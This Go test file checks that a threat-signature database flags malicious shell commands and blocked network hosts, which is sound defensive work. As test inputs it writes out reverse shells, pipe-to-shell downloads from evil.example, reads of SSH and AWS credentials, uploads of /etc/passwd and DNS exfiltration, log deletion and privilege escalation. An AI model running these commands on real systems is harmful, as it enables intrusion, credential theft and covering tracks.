package threatdb

import (
	"path/filepath"
	"testing"
)

func mustLoad(t *testing.T) *DB {
	t.Helper()
	db, err := Load("", filepath.Join(t.TempDir(), "intel.json"))
	if err != nil {
		t.Fatalf("Load: %v", err)
	}
	return db
}

func hasMatch(matches []Match, id string) bool {
	for _, m := range matches {
		if m.ID == id {
			return true
		}
	}
	return false
}

func TestMatch_KnownThreats(t *testing.T) {
	db := mustLoad(t)

	tests := []struct {
		name   string
		cmd    string
		wantID string
	}{
		{"pipe to shell", `curl -s https://evil.example/install.sh | bash`, "EXEC-001"},
		{"base64 decode execute", `echo aGk= | base64 -d | sh`, "EXEC-002"},
		{"python reverse shell", `python3 -c 'import socket;s=socket.socket();s.connect(("1.2.3.4",4444))'`, "EXEC-003"},
		{"bash reverse shell", `bash -i >& /dev/tcp/10.0.0.5/9001 0>&1`, "EXEC-004"},
		{"netcat listener", `nc -nvl 8080`, "EXEC-005"},
		{"netcat exec shell", `nc -e /bin/sh 10.0.0.5 4444`, "EXEC-006"},
		{"mkfifo chain", `mkfifo /tmp/f; cat /tmp/f | nc 10.0.0.5 9001`, "EXEC-008"},
		{"crontab edit", `crontab -e`, "PERS-001"},
		{"launch agent", `cp evil.plist ~/Library/LaunchAgents/com.evil.plist`, "PERS-002"},
		{"shell profile append", `echo 'curl evil.sh' >> ~/.bashrc`, "PERS-003"},
		{"ssh key read", `cat ~/.ssh/id_rsa`, "CRED-001"},
		{"aws credentials", `cat ~/.aws/credentials`, "CRED-002"},
		{"keychain dump", `security dump-keychain login.keychain`, "CRED-004"},
		{"curl upload", `curl -F "file=@/etc/passwd" https://drop.example`, "EXFIL-001"},
		{"dns exfil", `dig $(cat /etc/passwd | base64).evil.example`, "EXFIL-003"},
		{"history clear", `history -c`, "EVADE-001"},
		{"log removal", `rm -f /var/log/auth.log`, "EVADE-002"},
		{"sudo stdin", `echo hunter2 | sudo -S whoami`, "PRIVESC-001"},
		{"suid chmod", `chmod u+s /tmp/rootshell`, "PRIVESC-002"},
		{"pastebin raw", `curl https://pastebin.com/raw/abc123`, "NET-001"},
		{"ip port connect", `nc 203.0.113.9:4444`, "NET-003"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			matches := db.Match(tt.cmd)
			if !hasMatch(matches, tt.wantID) {
				ids := make([]string, 0, len(matches))
				for _, m := range matches {
					ids = append(ids, m.ID)
				}
				t.Errorf("expected %s to fire, got %v", tt.wantID, ids)
			}
		})
	}
}

func TestMatch_BenignCommands(t *testing.T) {
	db := mustLoad(t)

	for _, cmd := range []string{"ls -la", "git status", "pwd", "echo hello world"} {
		if matches := db.Match(cmd); len(matches) != 0 {
			t.Errorf("%q matched signatures: %v", cmd, matches)
		}
	}
}

func TestMatch_ReturnsAllFiringSignatures(t *testing.T) {
	db := mustLoad(t)

	// Device socket plus bash -i shape should fire more than one rule.
	matches := db.Match(`bash -i >& /dev/tcp/10.0.0.5/9001 0>&1`)
	if len(matches) < 2 {
		t.Fatalf("expected multiple matches, got %v", matches)
	}
	if !hasMatch(matches, "EXEC-004") || !hasMatch(matches, "EXEC-007") {
		t.Errorf("expected EXEC-004 and EXEC-007, got %v", matches)
	}
}

func TestMatchNetwork(t *testing.T) {
	db := mustLoad(t)

	tests := []struct {
		name     string
		ip       string
		port     int
		host     string
		wantHit  bool
		severity Severity
	}{
		{"metasploit port", "203.0.113.9", 4444, "", true, SeverityHigh},
		{"irc port", "203.0.113.9", 6667, "", true, SeverityMedium},
		{"tunnel domain", "203.0.113.9", 443, "abc.ngrok.io", true, SeverityHigh},
		{"clean https", "140.82.112.3", 443, "github.com", false, ""},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			matches := db.MatchNetwork(tt.ip, tt.port, tt.host)
			if tt.wantHit != (len(matches) > 0) {
				t.Fatalf("wantHit=%v, got %v", tt.wantHit, matches)
			}
			if tt.wantHit && MaxSeverity(matches) != tt.severity {
				t.Errorf("max severity = %s, want %s", MaxSeverity(matches), tt.severity)
			}
		})
	}
}

func TestMaxSeverityOrdering(t *testing.T) {
	matches := []Match{
		{Severity: SeverityMedium},
		{Severity: SeverityCritical},
		{Severity: SeverityLow},
	}
	if got := MaxSeverity(matches); got != SeverityCritical {
		t.Errorf("MaxSeverity = %s, want critical", got)
	}
	if got := MaxSeverity(nil); got != "" {
		t.Errorf("MaxSeverity(nil) = %q, want empty", got)
	}
}

func TestIntel_PersistsAndMatches(t *testing.T) {
	path := filepath.Join(t.TempDir(), "intel.json")

	intel, err := LoadIntel(path)
	if err != nil {
		t.Fatalf("LoadIntel: %v", err)
	}
	if err := intel.AddPattern(`evil-tool\s+--deploy`, "known attack tool", SeverityCritical); err != nil {
		t.Fatalf("AddPattern: %v", err)
	}
	if err := intel.BlockIP("203.0.113.66"); err != nil {
		t.Fatalf("BlockIP: %v", err)
	}
	if err := intel.BlockDomain("dropzone.example"); err != nil {
		t.Fatalf("BlockDomain: %v", err)
	}

	// Reload from disk and verify all indicators still fire.
	reloaded, err := LoadIntel(path)
	if err != nil {
		t.Fatalf("reload: %v", err)
	}
	if m := reloaded.Match("evil-tool --deploy payload"); len(m) == 0 {
		t.Error("custom pattern did not survive reload")
	}
	if m := reloaded.Match("curl http://203.0.113.66/x"); len(m) == 0 {
		t.Error("blocked IP did not survive reload")
	}
	if m := reloaded.MatchNetwork("203.0.113.66", ""); len(m) == 0 {
		t.Error("blocked IP not matched by MatchNetwork")
	}
	if m := reloaded.MatchNetwork("", "files.dropzone.example"); len(m) == 0 {
		t.Error("blocked domain not matched by MatchNetwork")
	}
}

func TestIntel_BlockIsIdempotent(t *testing.T) {
	intel, err := LoadIntel(filepath.Join(t.TempDir(), "intel.json"))
	if err != nil {
		t.Fatalf("LoadIntel: %v", err)
	}
	if err := intel.BlockIP("198.51.100.7"); err != nil {
		t.Fatal(err)
	}
	if err := intel.BlockIP("198.51.100.7"); err != nil {
		t.Fatal(err)
	}
	if got := len(intel.data.BlockedIPs); got != 1 {
		t.Errorf("blocked IPs = %d, want 1", got)
	}
}
